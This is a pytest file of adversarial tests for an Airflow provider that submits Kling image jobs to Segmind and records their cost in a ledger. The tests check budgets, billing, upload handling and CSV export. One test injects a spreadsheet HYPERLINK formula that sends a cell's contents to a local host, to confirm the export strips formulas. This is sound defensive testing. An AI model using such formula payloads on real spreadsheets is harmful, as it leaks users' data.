"""What a fifteenth tester, who wrote no fix, broke."""

from __future__ import annotations

import argparse
import csv
import io
import shutil
import time
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace

import pytest
from PIL import Image
from sqlalchemy import insert, select, update

from airflow_provider_kling.ledger.owner import Owner, Wanted
from airflow_provider_kling.ledger.tables import generations
from airflow_provider_kling.ledger.task_ledger import TaskLedger
from airflow_provider_kling.submission.record import Record
from airflow_provider_kling.submission.record_and_ledger import RecordAndLedger
from tests.conftest import AIRFLOW_3
from tests.test_attacks_of_a_fourteenth_stranger import Memory, billed, make
from tests.test_attacks_of_a_second_stranger import alone


def rows(ledger):
    with ledger.reading() as connection:
        return connection.execute(select(generations).order_by(generations.c.id)).all()


@pytest.mark.attack(
    "Data that alternates between two prompts from try to try, while the answers to submits stay away",
    "each submit that may have been paid counts against the budget",
)
@pytest.mark.parametrize("limit", ["max_cost_per_dag_run", "max_cost_per_month"])
@pytest.mark.skipif(not AIRFLOW_3, reason="the timeout of a task ends dag.test() itself on Airflow 2")
def test_data_that_alternates_between_tries_wipes_no_intent_that_was_given_up(ledger, sim, conn_id, run_dag, limit):
    sim.order_fault("hold_after", method="POST", path="/v2/kling-*", times=9, seconds=30)
    prompt = '"fox {{ ti.try_number % 2 }}"'
    limits = f"retries=5, execution_timeout=timedelta(seconds=4), budget=KlingBudget({limit}=0.12)"
    run_dag(make("fox", limits).replace("'fox'", prompt))
    assert sim.ledger()["accepted"] <= 3, "of $0.035 each, with a budget of $0.12"


@pytest.mark.attack(
    "A run's data names a job of another account to a wait that has another key",
    "the ledger does not believe that the job is unknown, and nobody sends it again",
)
def test_a_wait_with_another_key_makes_no_job_of_others_unknown(ledger, sim, conn_id, set_connection, run_dag):
    run_dag(make(more='reuse="completed", wait_for_completion=False'))
    (row,) = rows(ledger)
    assert row.state == "accepted"
    other = set_connection(password="SG_of_somebody_else_0123")
    # What Segmind answers to a valid key of another account: the simulator has one account only.
    for path in ("/v2/requests/*", "/inference-request/*"):
        sim.order_fault("respond", method="GET", path=path, times=99, status=404, body={"error": "Request not found"})
    wait = (
        'KlingSensor(task_id="wait", mode="poke", retries=0, timeout=20, poke_interval=0.2, '
        f"request_id={row.request_id!r}, segmind_conn_id={other!r})"
    )
    assert run_dag(wait).state == "failed"
    (row,) = rows(ledger)
    sim.clear_faults()
    run_dag(make(more='reuse="completed"'))
    assert billed(sim) == 1, f"its row is {row.state!r} since the other key was told that it does not know it"


@pytest.mark.attack(
    "A gateway answers one upload with an address at which nothing is",
    "the runs after that upload the file themselves",
)
def test_one_wrong_address_of_an_upload_fails_no_other_run(ledger, sim, conn_id, run_dag, tmp_path):
    Image.new("RGB", (400, 400), "red").save(tmp_path / "fox.png")
    change = (
        "from airflow_provider_kling.operators.kling import KlingGenerateOperator\n"
        'KlingGenerateOperator(task_id="make", model="kling-3-image2image", deferrable=False, poll_interval=0.2, '
        f'payload={{"prompt": "a fox", "image_url": "{tmp_path}/fox.png"}}, retries=0)'
    )
    wrong = {"file_urls": [f"{sim.url}/nothing/here.png"]}
    sim.order_fault("respond", method="POST", path="/upload-asset", times=1, status=200, body=wrong)
    assert run_dag(change).state == "failed"
    states = [run_dag(change).state for _ in range(2)]
    assert states[-1] == "success", "the address is used for six days, by every run and DAG"


@pytest.mark.attack(
    "Requests are scarce, or the history does not answer, when a dead link is looked up there",
    "another try, as for a link that does not answer; nothing is paid again",
)
@pytest.mark.parametrize("status", [None, 500, 429])
def test_a_history_that_does_not_answer_pays_no_result_again(ledger, sim, conn_id, run_dag, status):
    run_dag(make(more='reuse="completed"'))
    (row,) = rows(ledger)
    with ledger.changing() as connection:  # the link has died; the history has a newer one
        dead = row.output.replace("/generations/", "/generations/dead-")
        assert dead != row.output
        connection.execute(update(generations).values(output=dead))
    if status is not None:
        sim.order_fault("respond", status=status, method="GET", path="/inference-request/*", times=99)
    run_dag(make(more='reuse="completed", retries=0'))
    assert billed(sim) == 1


COPY = """
import resource, sys
resource.setrlimit(resource.RLIMIT_FSIZE, (10_000, 10_000))
from fsspec.implementations.local import LocalFileSystem
from airflow_provider_kling.storage.saved_copy import copied
saved = {"path": sys.argv[1], "size": 9_000, "sha256": "0" * 64}
try:
    copied(saved, LocalFileSystem(), sys.argv[2], "copy", max_bytes=9_000)
except Exception as exc:
    print(exc)
"""


@pytest.mark.attack(
    "Who may write in the bucket of results replaces one by a huge file after it was looked at",
    "no more than max_bytes of it is copied",
)
def test_a_copy_stops_at_the_largest_file_that_a_store_takes(tmp_path):
    huge = tmp_path / "a.png"
    with huge.open("wb") as file:
        file.truncate(64 * 1024**2)
    told = alone(COPY, huge.as_uri(), tmp_path, seconds=180)  # the system lets it write no more than 10,000 bytes
    assert "it has other content than when it was saved" in told


@pytest.mark.attack(
    "A run whose data chooses the store uses a result again, and its files are deleted afterwards",
    "the files that the first task has saved are still known",
)
def test_a_second_copy_makes_nobody_forget_the_first_one(ledger, sim, conn_id, run_dag, tmp_path):
    run_dag(make(more=f'store="{tmp_path}/a", reuse="completed"'))
    run_dag(make(more=f'store="{tmp_path}/b", reuse="completed"'))
    shutil.rmtree(tmp_path / "b")
    sim.advance(8 * 24 * 3600)
    run_dag(make(more=f'store="{tmp_path}/c", reuse="completed"'))
    assert billed(sim) == 1, f"{len(list(Path(tmp_path, 'a').glob('**/*.png')))} file(s) are still in a"


HOST, X, Y = "https://api.segmind.com", "00000000-0000-4000-8000-000000000001", "00000000-0000-4000-8000-000000000002"


@pytest.mark.attack(
    "Data changes before a task is cleared whose earlier job the ledger does not have",
    "the row of what it wants now is not given the earlier job",
)
def test_an_earlier_job_is_not_taken_for_what_is_wanted_now(ledger):
    owner = Owner(deployment="", dag_id="film", run_id="one", task="submit", project="film")
    wanted = Wanted(host=HOST, model="kling-o1", content="2" * 64, account="a")
    now = datetime.now(tz=UTC)
    both = RecordAndLedger(Memory(), TaskLedger(ledger, owner, wanted), SimpleNamespace(warning=print))
    intent = Record(fingerprint="2" * 64, account="a", model="kling-o1", intended_at=now, high=0.5, former=(X,))
    both.save(intent, before_post=True)
    both.save(intent.model_copy(update={"request_id": Y, "accepted_at": now}))
    content = {row.request_id: row.content for row in rows(ledger)}
    assert content[Y] == "2" * 64
    assert content.get(X) != "2" * 64, "X was sent for something else, and reconcile will note its result"


@pytest.mark.attack(
    "A run's data makes a task's variant a formula", "a table of the ledger holds no formula for a spreadsheet"
)
def test_a_csv_of_the_ledger_has_no_formulas(ledger, sim, conn_id, run_dag, capsys):
    from airflow_provider_kling.cli.ledger import export_ledger

    formula = '=HYPERLINK("http://127.0.0.1/?"&A1)'
    run_dag(make(more="variant=\"{{ dag_run.conf['v'] }}\""), run_conf={"v": formula})
    capsys.readouterr()
    args = argparse.Namespace(ledger_conn_id=None, month=None, format="csv")
    assert export_ledger(args) == 0
    cells = [cell for line in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in line]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]


@pytest.mark.attack(
    "The same was made many times without reuse, and all of the links are dead", "a worker is not kept for minutes"
)
def test_many_dead_results_of_the_same_keep_no_worker(ledger, sim, conn_id, run_dag):
    run_dag(make(more='reuse="completed"'))
    (row,) = rows(ledger)
    with ledger.changing() as connection:
        for number in range(1, 10):
            again = dict(row._mapping) | {"request_id": f"00000000-0000-4000-8000-{number:012d}", "number": number}
            again.pop("id")
            connection.execute(insert(generations).values(**again))
    sim.advance(8 * 24 * 3600)
    begun = time.monotonic()
    run_dag(make(more='reuse="completed"'))
    assert time.monotonic() - begun < 20, f"{time.monotonic() - begun:.0f} s for ten results; a year of days has 365"
